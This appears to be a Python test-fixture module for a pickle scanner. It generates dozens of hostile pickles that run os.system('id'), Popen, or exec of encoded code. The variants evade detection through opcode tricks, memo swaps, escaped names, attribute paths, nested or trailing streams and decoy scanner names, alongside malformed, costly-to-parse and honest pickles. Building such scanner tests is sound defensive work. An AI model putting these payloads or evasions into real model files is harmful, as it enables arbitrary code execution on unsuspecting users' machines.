"""Pickles: every way to call something, to hide that, and what honest pickles do that looks alike."""

from __future__ import annotations

import base64
import pickle
import zlib
from collections.abc import Iterator

from model_files.base import Case, honest, hostile
from model_files.opcodes import (
    ATTACK,
    BINPERSID,
    BUILD,
    CODE,
    COMMAND,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    EVAL,
    MARK,
    MEMOIZE,
    NEWOBJ,
    NEWOBJ_EX,
    NONE,
    POP,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    SYSTEM,
    TUPLE1,
    TUPLE2,
    arguments,
    call,
    name,
    number,
    pickled,
    proto,
    pushed,
    raw,
    short,
    stack_name,
    table,
    text,
)

RUN = text(COMMAND) + TUPLE1 + REDUCE
_OS = short("os")
_SYSTEM = short("system")


def cases() -> Iterator[Case]:
    for kind, group in _HOSTILE.items():
        for title, data in group.items():
            yield hostile(kind, f"{title}.pkl", data)
    yield from _broken()
    yield from _heavy()
    yield from _honest()


_HOSTILE: dict[str, dict[str, bytes]] = {
    "every protocol": {
        "protocol-0": b"cos\nsystem\n(S'id'\ntR.",
        "protocol-1": b"cos\nsystem\nq\x00(U\x02idtq\x01Rq\x02.",
        **{f"protocol-{version}": pickled(SYSTEM, version) for version in range(2, 6)},
        "stack-global": pickled(stack_name("os", "system") + RUN, 4),
        "framed": proto(4) + b"\x95\x30\0\0\0\0\0\0\0" + stack_name("posix", "system") + short("id") + b"\x85R.",
    },
    "every call": {
        "inst": b"(S'id'\nios\nsystem\n.",
        "obj": b"(cos\nsystem\nS'id'\no.",
        "newobj": pickled(name("os", "system") + text("id") + TUPLE1 + NEWOBJ),
        "newobj-ex": pickled(stack_name("subprocess", "Popen") + text("id") + TUPLE1 + EMPTY_DICT + NEWOBJ_EX, 4),
        "popen-class": pickled(name("subprocess", "Popen") + arguments(pushed(["sh", "-c", "id"])) + NEWOBJ),
        "build-state": pickled(name("acme.models", "Net") + EMPTY_TUPLE + NEWOBJ + table(cmd=SYSTEM) + BUILD),
        "within-dict": pickled(table(weights=pushed([0.5] * 40), epoch=number(3), hook=SYSTEM)),
        "popped": pickled(SYSTEM + POP + pushed({"a": 1})),
        "append-method": pickled(call("builtins", "getattr", name("os", "system"), "__call__") + RUN),
        "eval": pickled(EVAL),
        "exec-encoded": pickled(
            call("builtins", "exec", call("base64", "b64decode", base64.b64encode(CODE.encode()).decode()))
        ),
        "exec-packed": pickled(call("builtins", "exec", call("zlib", "decompress", raw(zlib.compress(CODE.encode()))))),
        "runpy": pickled(call("runpy", "_run_code", CODE, EMPTY_DICT)),
        "compile-exec": pickled(call("builtins", "exec", call("builtins", "compile", CODE, "x", "exec"))),
        "map-system": pickled(call("builtins", "list", call("builtins", "map", name("os", "system"), pushed(["id"])))),
        "filter-system": pickled(
            call("builtins", "tuple", call("builtins", "filter", name("os", "system"), pushed(["id"])))
        ),
        "default-factory": pickled(
            call("collections", "defaultdict", name("os", "getcwd")) + MARK + text("a") + NONE + b"u"
        ),
    },
    "memo and stack": {
        "put-decoy": pickled(
            text("os") + b"q\x05" + POP + text("x") + POP + b"h\x05" + _SYSTEM + STACK_GLOBAL + RUN, 4
        ),
        "memoize-swapped": pickled(_SYSTEM + MEMOIZE + _OS + MEMOIZE + b"00h\x01h\x00" + STACK_GLOBAL + RUN, 4),
        "slot-overwritten": pickled(
            short("math") + b"q\x00" + _OS + b"q\x000" + b"0h\x00" + _SYSTEM + STACK_GLOBAL + RUN, 4
        ),
        "pop-mark": pickled(_OS + MARK + short("a") + b"1" + _SYSTEM + STACK_GLOBAL + RUN, 4),
        "duplicate": pickled(_OS + b"200" + _OS + _SYSTEM + STACK_GLOBAL + RUN, 4),
        "long-get": pickled(_OS + b"r\xff\xff\x00\x000j\xff\xff\x00\x00" + _SYSTEM + STACK_GLOBAL + RUN, 4),
        "text-get": pickled(_OS + b"p77\n0g77\n" + _SYSTEM + STACK_GLOBAL + RUN, 4),
        "escaped-unicode": pickled(b"V\\u006fs\nVsyst\\u0065m\n" + STACK_GLOBAL + RUN, 4),
        "escaped-string": pickled(b"S'o\\x73'\nS'syst\\x65m'\n" + STACK_GLOBAL + RUN, 4),
        "binstring": pickled(b"U\x02osU\x06system" + STACK_GLOBAL + RUN, 4),
        "function-kept": pickled(name("os", "system") + b"q\x000" + text("ok") + b"0h\x00" + RUN),
    },
    "attribute paths": {
        f"path-{number_}": pickled(stack_name(module, path) + RUN, 4)
        for number_, (module, path) in enumerate(
            [
                ("torch", "os.system"),
                ("collections", "abc.sys.modules"),
                ("numpy", "__builtins__"),
                ("collections", "OrderedDict.__class__.__subclasses__"),
                ("random", "_os.system"),
                ("logging", "os.popen"),
                ("torch.nn", "Module.__init__.__globals__"),
                ("sklearn.base", "warnings.sys.modules"),
                ("builtins", "object.__subclasses__"),
            ]
        )
    },
    "states of names": {
        "state-of-function": pickled(name("numpy", "mean") + NONE + table(a=name("os", "system")) + TUPLE2 + BUILD),
        "state-of-module-class": pickled(
            name("collections", "OrderedDict") + NONE + table(get=name("os", "system")) + TUPLE2 + BUILD
        ),
        "items-of-modules": pickled(name("sys", "modules") + text("torch") + name("os", "path") + SETITEM),
        "class-attribute": pickled(
            name("torch.nn", "Linear") + NONE + table(forward=name("builtins", "eval")) + TUPLE2 + BUILD
        ),
        "instance-class": pickled(
            name("collections", "OrderedDict")
            + EMPTY_TUPLE
            + REDUCE
            + table(__class__=name("acme", "Runner"), __reduce__=name("os", "system"))
            + BUILD
        ),
        "builtins-items": pickled(name("builtins", "__dict__") + text("len") + name("os", "system") + SETITEM),
    },
    "extension registry": {
        "ext1": pickled(b"\x82\x07" + RUN),
        "ext2": pickled(b"\x83\x07\x01" + RUN),
        "ext4": pickled(b"\x84\x07\x01\x00\x00" + RUN),
        "registered": pickled(call("copyreg", "add_extension", "os", "system", number(7)) + POP + b"\x82\x07" + RUN),
    },
    "indirection": {
        "resolve-name": pickled(call("pkgutil", "resolve_name", "os:system") + RUN),
        "attrgetter": pickled(call("operator", "attrgetter", "system") + arguments(name("acme", "os")) + REDUCE),
        "methodcaller": pickled(
            call("operator", "methodcaller", "system", "id")
            + arguments(call("importlib", "import_module", "os"))
            + REDUCE
        ),
        "import-module": pickled(call("builtins", "getattr", call("importlib", "import_module", "os"), "system") + RUN),
        "dunder-import": pickled(call("builtins", "getattr", call("builtins", "__import__", "os"), "system") + RUN),
        "getattr-chain": pickled(
            call(
                "builtins",
                "getattr",
                call("builtins", "getattr", name("collections", "OrderedDict"), "__init__"),
                "__globals__",
            )
        ),
        "partial": pickled(call("functools", "partial", name("os", "system"), "id") + EMPTY_TUPLE + REDUCE),
        "partial-state": pickled(
            name("functools", "partial")
            + arguments(name("collections", "OrderedDict"))
            + REDUCE
            + arguments(name("os", "system"), arguments(text("id")), EMPTY_DICT, NONE)
            + BUILD
        ),
        "reduce": pickled(call("functools", "reduce", name("os", "system"), pushed(["id"]))),
        "reconstructor": pickled(
            call("copyreg", "_reconstructor", name("subprocess", "Popen"), name("builtins", "object"), NONE)
        ),
        "starmap": pickled(
            call("builtins", "list", call("itertools", "starmap", name("os", "system"), pushed([("id",)])))
        ),
        "type-made": pickled(call("builtins", "type", "X", EMPTY_TUPLE, table(run=name("os", "system")))),
        "module-type": pickled(call("types", "ModuleType", "os")),
        "string-formatter": pickled(call("string", "Formatter") + POP + call("string", "Formatter.vformat", "{0.a}")),
    },
    "scanner named": {
        title: pickled(call(module, "load", "x"))
        for title, module in (
            ("picklescan", "picklescan.scanner"),
            ("fickling", "fickling.fickle"),
            ("modelscan", "modelscan"),
        )
    },
    "persistent id": {
        "in-id": pickled(SYSTEM + BINPERSID),
        "call-in-tuple": pickled(arguments(text("storage"), EVAL) + BINPERSID),
        "protocol-0": b"cos\nsystem\n(S'id'\ntRQ.",
    },
    "several streams": {
        "second": pickled(pushed({"a": 1})) + ATTACK,
        "fifth": pickled(pushed(1)) * 4 + ATTACK,
        "behind-zeros": pickled(pushed([1, 2])) + bytes(600) + ATTACK,
        "behind-junk": pickled(pushed([1, 2])) + b"\xff\xfe some text that is no pickle " + ATTACK,
        "behind-junk-protocol-0": pickled(pushed("x")) + b"junk, " + b"cos\nsystem\n(S'id'\ntR.",
        "behind-megabyte": pickled(raw(bytes(1 << 20))) + ATTACK,
    },
    "pickle within": {
        "loads-bytes": pickled(call("pickle", "loads", raw(ATTACK))),
        "loads-base64": pickled(
            call("_pickle", "loads", call("base64", "b64decode", base64.b64encode(ATTACK).decode()))
        ),
        "load-from-bytes": pickled(call("torch.storage", "_load_from_bytes", raw(ATTACK))),
        "bytes-only": pickled(table(state=raw(ATTACK))),
        "base64-only": pickled(table(state=text(base64.b64encode(ATTACK).decode()))),
        "hex-only": pickled(table(state=text(ATTACK.hex()))),
        "marshal": pickled(
            call("types", "FunctionType", call("marshal", "loads", raw(b"\xe3" + bytes(40))), EMPTY_DICT)
        ),
        "dill": pickled(call("dill", "loads", raw(ATTACK))),
        "joblib-load": pickled(call("joblib.numpy_pickle", "load", "/tmp/x.joblib")),
        "cloudpickle-code": pickled(
            name("cloudpickle.cloudpickle", "_make_function")
            + arguments(call("cloudpickle.cloudpickle", "_builtin_type", "CodeType") + arguments(number(0)) + REDUCE)
            + REDUCE
        ),
        "dill-code": pickled(
            name("dill._dill", "_create_function")
            + arguments(call("dill._dill", "_create_code", number(0), raw(b"d\x00S\x00")), EMPTY_DICT)
            + REDUCE
        ),
        "code-type": pickled(call("types", "CodeType", number(0), raw(b"d\x00S\x00"))),
    },
    "unlisted callable": {
        "acme-run": pickled(call("acme.loader", "run", COMMAND)),
        "acme-plain": pickled(call("acme.loader", "restore", number(3))),
        "main-class": pickled(call("__main__", "Model", number(3))),
        "plugin-named-torch": pickled(call("torch_plugins.ops", "execute", number(1))),
        "lookalike-module": pickled(call("sklearn_utils.base", "rebuild", "x")),
        "unicode-lookalike": pickled(call("c\u043ellections", "OrderedDict")),
        "import-only": pickled(name("os", "system")),
        "exotic-import": pickled(name("acme.anything", "hook")),
    },
}


def _broken() -> Iterator[Case]:
    tails = {
        "unknown-opcode": b"\xff",
        "no-stop": b"",
        "missing-argument": b"X\xff\xff\xff\x7f",
        "line-without-end": b"Vabc",
        "missing-memo": b"h\xee.",
        "stack-empty": b"00000.",
        "wrong-frame": b"\x95\xff\xff\xff\xff\xff\xff\xff\x7f.",
        "text-behind": b"\nand some text",
        "seven-protos": b"\x80\x04" * 7 + b"\xfe",
    }
    for title, tail in tails.items():
        yield hostile("broken behind the call", f"{title}.pkl", proto(4) + SYSTEM + tail)
        yield hostile("broken behind the call", f"{title}-unlisted.pkl", proto(4) + call("acme.x", "run", "id") + tail)
    odd = {
        "protocol-99": b"\x80\x63" + SYSTEM + STOP,
        "proto-twice": proto(2) + proto(5) + SYSTEM + STOP,
        "odd-int": proto(2) + b"I1_0\n0" + SYSTEM + STOP,
        "invalid-utf8": proto(2) + b"X\x02\0\0\0\xff\xfe0" + SYSTEM + STOP,
        "short-frame": proto(4) + b"\x95\x03\0\0\0\0\0\0\0" + SYSTEM + STOP,
        "buffers": proto(5) + b"\x97\x980" + SYSTEM + STOP,
        "negative-binput": proto(2) + text("a") + b"r\xff\xff\xff\xff0" + SYSTEM + STOP,
        "long4-negative": proto(2) + b"\x8b\x00\x00\x00\x000" + SYSTEM + STOP,
    }
    for title, data in odd.items():
        yield hostile("odd but loadable", f"{title}.pkl", data)


def _heavy() -> Iterator[Case]:
    laughs = proto(4) + EMPTY_LIST + b"q\x00"
    for level in range(1, 40):
        laughs += EMPTY_LIST + b"q" + bytes([level]) + MARK + (b"h" + bytes([level - 1])) * 10 + b"e"
    yield hostile("costly to read", "billion-laughs.pkl", laughs + STOP)
    tuples = proto(4) + EMPTY_TUPLE
    yield hostile("costly to read", "shared-tuples.pkl", tuples + (b"2" + TUPLE2) * 60 + STOP)
    yield hostile("costly to read", "many-opcodes.pkl", proto(2) + b"N0" * 400_000 + SYSTEM + STOP)
    flood = b"".join(name(f"acme.m{index}", "f") + POP for index in range(20_000))
    yield hostile("costly to read", "many-imports.pkl", proto(2) + flood + SYSTEM + STOP)
    yield hostile("costly to read", "large-bytes-first.pkl", proto(4) + raw(bytes(12 << 20)) + POP + SYSTEM + STOP)


def _honest() -> Iterator[Case]:
    plain = {"layers": [1, 2, 3], "name": "net", "rate": 0.5, "none": None, "raw": b"\0\1", "deep": {"a": ({1, 2},)}}
    for version in range(6):
        yield honest("plain values", f"plain-{version}.pkl", pickle.dumps(plain, version))
    yield honest("plain values", "large-list.pkl", pickle.dumps(list(range(60_000)), 4))
    yield honest("plain values", "words.pkl", pickle.dumps({f"token{n}": n for n in range(20_000)}, 2))
    talk = ["os.system", "eval", "import os; os.system('ls')", "http://example.com/a.sh", "c__builtin__\neval\n"]
    yield honest("words that attacks use", "vocabulary.pkl", pickle.dumps(dict.fromkeys(talk, 1), 4))
    yield honest("words that attacks use", "notes.pkl", pickle.dumps("Never unpickle: cos\nsystem\n(S'id'\ntR.", 0))
    shared = [0] * 10
    yield honest("shared parts", "shared.pkl", pickle.dumps([shared] * 1000, 4))
    yield honest("shared parts", "cycle.pkl", proto(2) + b"]q\x00h\x00a.")
    ordered = name("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + MARK + text("w") + number(1) + b"u"
    yield honest("standard library", "ordered.pkl", pickled(ordered))
    dated = call("datetime", "datetime", raw(b"\x07\xe8\x01\x02\x03\x04\x05\0\0\0"))
    yield honest("standard library", "dated.pkl", pickled(table(at=dated), 4))
    yield honest("standard library", "counted.pkl", pickled(call("collections", "Counter", pushed({"a": 2}))))
    yield honest(
        "standard library", "default.pkl", pickled(call("collections", "defaultdict", name("builtins", "list")))
    )
    yield honest("standard library", "path.pkl", pickled(call("pathlib", "PosixPath", "data", "train.csv")))
    yield honest("standard library", "number.pkl", pickled(call("decimal", "Decimal", "1.5")))
    yield honest("standard library", "fraction.pkl", pickled(call("fractions", "Fraction", "1/3")))
    yield honest(
        "standard library",
        "identity.pkl",
        pickled(name("uuid", "UUID") + EMPTY_TUPLE + NEWOBJ + table(int=number(7)) + BUILD),
    )
    yield honest(
        "standard library", "namespace.pkl", pickled(call("argparse", "Namespace") + table(lr=pushed(0.1)) + BUILD)
    )
    yield honest("standard library", "set-python2.pkl", b"c__builtin__\nset\n(lp0\nS'a'\naRp1\n.")
    yield honest("standard library", "bytes-protocol-2.pkl", pickle.dumps(b"\xff\0abc", 2))
    yield honest(
        "standard library",
        "array.pkl",
        pickled(call("array", "_array_reconstructor", name("array", "array"), "d", number(16), raw(bytes(16)))),
    )
    yield honest("several streams", "three.pkl", pickle.dumps(1) + pickle.dumps({"a": 2}, 0) + pickle.dumps([3], 5))
    yield honest("several streams", "padded.pkl", pickle.dumps({"a": 2}, 4) + bytes(4096))
